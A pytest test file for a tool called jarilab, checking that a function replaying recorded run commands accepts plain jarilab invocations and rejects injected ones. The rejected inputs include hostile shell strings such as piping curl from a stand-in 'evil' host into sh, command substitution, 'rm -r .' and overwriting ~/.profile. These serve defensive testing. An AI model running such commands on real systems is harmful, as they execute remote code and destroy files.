"""Recorded commands: typed again they run jarilab and nothing else."""

import pytest

from jarilab.runs.environment import recorded_command


@pytest.mark.parametrize("command", ["jarilab train copy --out 'my run'", "jarilab compare copy --encodings none,t5"])
def test_a_command_of_jarilab_is_shown(command):
    assert recorded_command({"command": command}) == command


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil/x | sh; jarilab train",
        "jarilab train; curl http://evil/x | sh",
        "jarilab train $(curl http://evil/x)",
        "jarilab train `id`",
        "jarilab train && rm -r .",
        "jarilab train > ~/.profile",
        "jarilab train\nid",
        "jarilab train '\x1b[2J'",
        "jarilab 'train",
        "python evil.py",
        "jarilab export runs/a --out /home/anna/.profile",
        "jarilab train --from runs/a --trust-code",
        "jarilab",
        5,
    ],
)
def test_another_command_is_not_shown(command):
    assert recorded_command({"command": command}) == "jarilab train"


def test_a_record_without_a_command():
    assert recorded_command({}) == "jarilab train"
